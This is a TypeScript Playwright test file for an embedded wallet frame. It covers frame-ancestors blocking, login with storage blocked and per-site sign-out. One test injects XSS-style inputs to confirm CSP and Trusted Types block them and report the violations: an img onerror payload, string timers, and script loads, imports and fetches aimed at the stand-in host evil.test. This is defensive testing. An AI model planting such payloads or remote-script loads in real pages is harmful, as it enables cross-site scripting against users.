import type { Browser, Frame, Page } from 'playwright'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openChromium } from '../support/openChromium.ts'
import { type EmbeddedStack, startEmbeddedStack } from './startEmbeddedStack.ts'
import { addressOf, logIn, visitHost } from './visitHost.ts'

let stack: EmbeddedStack
let browser: Browser

beforeAll(async () => {
  stack = await startEmbeddedStack()
  browser = await openChromium()
})
afterAll(async () => {
  await browser?.close()
  await stack?.stop()
})

function frameOf(page: Page): Frame {
  const frame = page.frames().find((one) => one.url().startsWith(stack.frameUrl))
  if (frame === undefined) throw new Error('The page shows no frame.')
  return frame
}

test('A1 a page that the project does not name cannot show the frame, and the server hears nothing', async () => {
  const context = await browser.newContext()
  const page = await context.newPage()
  const calls: string[] = []
  context.on('request', (request) => {
    if (request.url().startsWith(stack.server.url)) calls.push(request.url())
  })
  const errors: string[] = []
  page.on('console', (message) => errors.push(message.text()))
  await page.goto(`${stack.strangerUrl}?frame=${encodeURIComponent(stack.frameUrl)}`)
  await expect.poll(() => errors.join()).toContain('frame-ancestors')
  const answer = page.evaluate(() =>
    Promise.race([
      window.host.frame.request('isConnected', undefined).then(() => 'answered'),
      new Promise((resolve) => setTimeout(() => resolve('silent'), 2_000)),
    ]),
  )
  expect(await answer).toBe('silent')
  expect(calls).toEqual([])
  await context.close()
})

test('A13 scripts that get into the shell do not run, and the host of the frame hears of it', async () => {
  const context = await browser.newContext()
  const page = await visitHost(context, stack.hosts[0], stack)
  await page.evaluate(() => window.host.login.isConnected())
  const ran = await frameOf(page).evaluate(async () => {
    const marks: string[] = []
    Reflect.set(window, 'mark', (name: string) => marks.push(name))
    const attempt = async (name: string, action: () => unknown) => {
      try {
        await action()
      } catch {
        // Blocked as it should be: a script that runs calls `mark`.
        Reflect.set(window, `blocked ${name}`, true)
      }
    }
    const script = (fill: (element: HTMLScriptElement) => void) => () => {
      const element = document.createElement('script')
      fill(element)
      document.head.append(element)
    }
    await attempt(
      'inline',
      script((element) => element.append(document.createTextNode("mark('inline')"))),
    )
    await attempt(
      'text',
      script((element) => Object.assign(element, { text: "mark('text')" })),
    )
    await attempt(
      'remote',
      script((element) => Object.assign(element, { src: 'https://evil.test/x.js' })),
    )
    await attempt('markup', () => {
      document.body.innerHTML = '<img src=x onerror="mark(\'markup\')">'
    })
    await attempt('timer', () => Reflect.apply(setTimeout, window, ["mark('timer')"]))
    await attempt('worker', () => new Worker('data:text/javascript,'))
    await attempt('policy', () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): void }
      }
      trustedTypes.createPolicy('evil', {})
      marks.push('policy')
    })
    await attempt('network', async () => {
      await fetch('https://evil.test/')
      marks.push('network')
    })
    await new Promise((resolve) => setTimeout(resolve, 500))
    return marks
  })
  expect(ran).toEqual([])
  // As text, so that the test runner does not make it an import of its own.
  const imported = "import('https://evil.test/x.js').then(() => 'ran', () => 'blocked')"
  expect(await frameOf(page).evaluate(imported)).toBe('blocked')
  const reported = () => stack.frameLog.join('')
  for (const directive of ['require-trusted-types-for', 'trusted-types', 'connect-src', 'script-src-elem'])
    await expect.poll(reported).toContain(`"directive":"${directive}"`)
  await context.close()
})

test('A25 with storage blocked a login works, and the next visit recovers the same address', async () => {
  const context = await browser.newContext()
  await context.addInitScript(() => {
    if (location.pathname !== '/sdk') return
    Object.defineProperty(window, 'indexedDB', {
      get() {
        throw new DOMException('Storage is blocked.', 'SecurityError')
      },
    })
  })
  const requests: string[] = []
  context.on('request', (request) => {
    if (request.method() !== 'OPTIONS') requests.push(new URL(request.url()).pathname)
  })
  const page = await visitHost(context, stack.hosts[0], stack)
  const email = 'blocked@mailbox.example'
  const address = await logIn(context, page, stack.mailbox, email)
  expect(await page.evaluate(() => window.host.login.isConnected())).toBe(true)
  const signed = page.evaluate(
    (account) => window.host.provider.request({ method: 'personal_sign', params: ['hello', account] }),
    address,
  )
  // Low risk, and yet in a window: that one can keep the slot of the device.
  const opening = context.waitForEvent('page')
  await frameOf(page).getByRole('button', { name: 'Open the window' }).click()
  const popup = await opening
  const sign = popup.getByRole('button', { name: 'Sign', exact: true })
  await sign.hover()
  await expect.poll(() => sign.isEnabled()).toBe(true)
  await popup.mouse.move(10, 10)
  // The window closes at the click, at times before the browser has reported the click: the signature tells whether it counted.
  await Promise.allSettled([sign.click()])
  expect(await signed).toMatch(/^0x[\da-f]{130}$/)
  await page.reload()
  expect(await page.evaluate(() => window.host.login.isConnected())).toBe(false)
  stack.wind(31_000)
  expect(await logIn(context, page, stack.mailbox, email)).toBe(address)
  // A frame that finds nothing in its storage does not begin again and again.
  expect(requests.filter((path) => path === '/sdk')).toHaveLength(2)
  const calls = requests.flatMap((path) => /^\/embedded\/v1\/(.*)/.exec(path)?.[1] ?? [])
  const login = ['email', 'link', 'link/choose', 'otp']
  // How often the approval of the device is asked for depends on how long it takes.
  const once = calls.filter((call) => call !== 'device')
  expect(once).toEqual([...login, 'wallet', 'session', 'browser', ...login, 'release'])
  await context.close()
})

test('A27 on a second site the visitor is another device; its sign-out leaves the first site logged in', async () => {
  const context = await browser.newContext()
  const email = 'two@mailbox.example'
  const first = await visitHost(context, stack.hosts[0], stack)
  const address = await logIn(context, first, stack.mailbox, email)
  stack.wind(31_000)
  const second = await visitHost(context, stack.hosts[1], stack)
  expect(await second.evaluate(() => window.host.login.isConnected())).toBe(false)
  // Only a device that is unknown gets a link, which `logIn` opens.
  expect(await logIn(context, second, stack.mailbox, email)).toBe(address)
  await second.evaluate(() => window.host.login.signOut())
  await first.reload()
  expect(await first.evaluate(() => window.host.login.isConnected())).toBe(true)
  expect(await addressOf(first)).toBe(address)
  await context.close()
})
